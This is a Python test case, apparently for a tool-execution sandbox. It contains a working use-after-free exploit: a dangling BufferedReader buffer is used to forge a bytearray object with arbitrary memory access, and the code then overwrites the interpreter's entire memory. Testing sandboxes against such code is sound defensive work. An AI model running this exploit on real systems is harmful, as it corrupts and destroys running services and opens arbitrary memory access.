# what: overwrites the whole memory of its instance through a dangling buffer, the interpreter included
# expect: trap or error or timeout or memory or result
# result: {"tricked": false}
import io, struct
WORD = struct.calcsize("P")
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, view):
        self.view = view
        return 0
def execute_tool(parameters, context):
    size = WORD * 512
    raw = Raw()
    reader = io.BufferedReader(raw, size)
    reader.read(1)
    view = raw.view
    reader = None
    lists = [[None] * 512 for _ in range(64)]
    if int.from_bytes(view[:WORD], "little") != id(None):
        return {"tricked": False}
    fake = struct.pack("7P", 1000, id(bytearray), 2 ** 31 - 1, 2 ** 31 - 1, 0, 0, 0)
    view[:WORD] = struct.pack("P", id(fake) + bytes.__basicsize__ - 1)
    memory = [items[0] for items in lists if items[0] is not None][0]
    for place in range(0, 2 ** 31 - 65_536, 65_536):
        memory[place:place + 65_536] = b"\xff" * 65_536
    return {"tricked": True}
